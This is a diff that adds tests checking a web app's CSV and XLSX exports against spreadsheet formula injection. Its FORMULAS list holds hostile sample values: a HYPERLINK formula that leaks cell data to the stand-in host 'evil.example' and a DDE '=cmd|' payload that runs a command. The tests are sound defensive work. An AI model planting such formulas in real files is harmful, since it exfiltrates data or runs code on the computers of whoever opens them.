@@ -76,3 +76,58 @@ def test_exports_are_private_to_their_owner_and_unknown_kinds_refused(client):
     assert other.get(f"/api/exports/{job['id']}").status_code == 404
     assert supervisor.post("/api/exports", json={"kind": "passwords"}).status_code == 422
     assert login(client, "lh_sampler").post("/api/exports", json={"kind": "samples"}).status_code == 403
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(A1:A9)",
+            "-2+3", "\t=1+1"]
+
+
+def _formula_typed_everywhere(client):
+    """Text a careless or hostile user types into fields that every export kind carries."""
+    import uuid
+
+    from tests.issuing.inspections import FINDINGS, complete_inspection
+
+    sampler = Tablet(login(client, "lh_sampler"))
+    visit = sampler.create("sampling_visit", visit_fields(enterprise_in("临河区").id))
+    sampler.create("sample", sample_fields("FX-001", post=FORMULAS[0], lab_concentration_mg_m3=1.0), parent=visit)
+    assert {r["status"] for r in sampler.push()["results"]} == {"applied"}
+    inspector = login(client, "lh_inspector")
+    findings = [dict(FINDINGS[0], fact=FORMULAS[1], requirement=FORMULAS[2])]
+    _, inspection, _ = complete_inspection(client, inspector, findings=findings)
+    assert inspector.post("/api/documents", json={"id": str(uuid.uuid4()), "record_id": inspection,
+                                                  "doc_type": "supervision_opinion"}).status_code == 201
+    assistant = Tablet(login(client, "lh_assistant"))
+    assistant.create("assistance_visit", {"enterprise_id": enterprise_in("临河区").id, "visit_date": "2026-04-10",
+                                          "problems_found": FORMULAS[3]})
+    assert {r["status"] for r in assistant.push()["results"]} == {"applied"}
+    follow = Tablet(login(client, "lh_followup"))
+    follow.create("followup", {"case_no": FORMULAS[4], "patient_name": FORMULAS[5], "followup_date": "2026-04-10",
+                               "vital_status": "alive"})
+    assert {r["status"] for r in follow.push()["results"]} == {"applied"}
+
+
+def _export(supervisor, kind, fmt):
+    job = supervisor.post("/api/exports", json={"kind": kind, "format": fmt}).get_json()
+    assert _finished(supervisor, job)["status"] == "done"
+    with supervisor.get(f"/api/exports/{job['id']}/file") as response:
+        return response.data
+
+
+def test_formulas_typed_in_the_field_arrive_as_text_in_every_export(client):
+    _formula_typed_everywhere(client)
+    supervisor = login(client, "lh_supervisor")
+    for kind in ("samples", "findings", "rectifications", "assistance", "followups"):
+        book = load_workbook(io.BytesIO(_export(supervisor, kind, "xlsx")))  # full mode: data types are read
+        cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
+        typed = [cell for cell in cells if cell.value in FORMULAS]
+        assert typed, kind
+        assert all(cell.data_type == "s" for cell in typed), kind  # text, never a formula ("f")
+        rows = list(csv.reader(io.StringIO(_export(supervisor, kind, "csv").decode("utf-8-sig"))))
+        texts = [value for row in rows[1:] for value in row]
+        assert any(value in [f"'{f}" for f in FORMULAS] for value in texts), kind
+        assert not any(value.startswith(("=", "+", "@", "\t")) for value in texts), kind
+    # Numbers stay numbers: a negative count or concentration is not text.
+    book = load_workbook(io.BytesIO(_export(supervisor, "samples", "xlsx")))
+    values = [cell.value for row in book.active.iter_rows(min_row=2) for cell in row]
+    assert 1.0 in values
